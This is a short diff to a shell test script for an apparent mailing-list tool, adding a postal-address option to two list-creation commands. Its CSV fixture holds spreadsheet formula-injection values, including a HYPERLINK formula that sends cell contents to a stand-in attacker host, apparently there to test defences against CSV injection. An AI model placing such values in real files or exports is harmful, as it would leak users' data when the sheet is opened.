@@ -7,8 +7,10 @@
 . "$(dirname "$0")/lib.sh"
 
 run 0 tocsin init
-run 0 tocsin list create river --from "River <alerts@river.example>"
-run 0 tocsin list create lake --from "Lake <alerts@lake.example>"
+run 0 tocsin list create river --from "River <alerts@river.example>" \
+    --address "1 Main St, Springfield"
+run 0 tocsin list create lake --from "Lake <alerts@lake.example>" \
+    --address "1 Main St, Springfield"
 cat >people.csv <<'X'
 email,first_name,last_name,city,phone
 ann@example.org,"=HYPERLINK(""http://evil.example/?""&A1)",Lee,@SUM(1+1),+33 6 12
